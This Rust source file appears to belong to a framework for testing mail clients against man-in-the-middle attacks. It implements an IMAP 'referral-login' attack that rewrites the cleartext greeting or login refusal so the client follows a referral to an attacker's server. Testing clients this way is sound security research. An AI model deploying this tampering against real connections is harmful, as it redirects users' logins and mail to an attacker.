//! Sends the client to its own server before anybody logged in.

use super::cert_cname_dns::OWN_MACHINE;
use super::group::USENIX;
use super::{Attack, Deciding, Group, tamper};
use crate::base::{Protocol, Side, Switch, switch};
use crate::harm::success;

switch!(
    Middle PLACE,
    "referral-in",
    Setting,
    &["greeting", "answer"],
    &[],
    "Where the referral stands",
    "In a goodbye in place of the greeting, or in a refusal of the login, which has to come in the clear."
);

static SWITCHES: &[&Switch] = &[&PLACE];

static DECIDING: &[Deciding] = &[
    Deciding {
        protocols: &[Protocol::Imap],
        given: &["client.referrals=followed"],
        right: &[],
        wrong: &["client.referrals-in-clear=on"],
    },
    Deciding {
        protocols: &[Protocol::Imap],
        given: &[
            "middle.referral-in=answer",
            "server.starttls=off",
            "server.logindisabled=off",
            "client.referrals=followed",
        ],
        right: &[],
        wrong: &["client.tls=opportunistic", "client.referrals-in-clear=on"],
    },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "referral-login",
    title: "Refer the login elsewhere",
    about: "Says in the server's name, in the clear, that the user's mail is kept on a server of the attacker's, which has a good certificate for its own name.",
    group: Group::Texts,
    known: &[USENIX],
    protocols: &[Protocol::Imap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let in_greeting = switches.get(&PLACE) == "greeting";
        let referral = format!("[REFERRAL imap://tim;AUTH=*@{OWN_MACHINE}/] your mail has moved");
        let mut sent_away = false;
        tamper(move |message, moves| {
            let asked = (dialect.command)(message.octets).filter(|_| message.from == Side::Client);
            match asked {
                // At its own server it does as the client wants.
                _ if sent_away => moves.pass(),
                None if in_greeting && message.is_greeting() => {
                    sent_away = true;
                    moves.replace(format!("* BYE {referral}\r\n").into_bytes());
                }
                Some(asked) if !in_greeting && asked.verb.logs_in() => {
                    sent_away = true;
                    moves.answer([&asked.tag, b" NO ".as_slice(), referral.as_bytes(), b"\r\n"].concat());
                }
                _ => moves.pass(),
            }
        })
    },
    success: &success::SENT_AWAY,
    deciding: DECIDING,
};
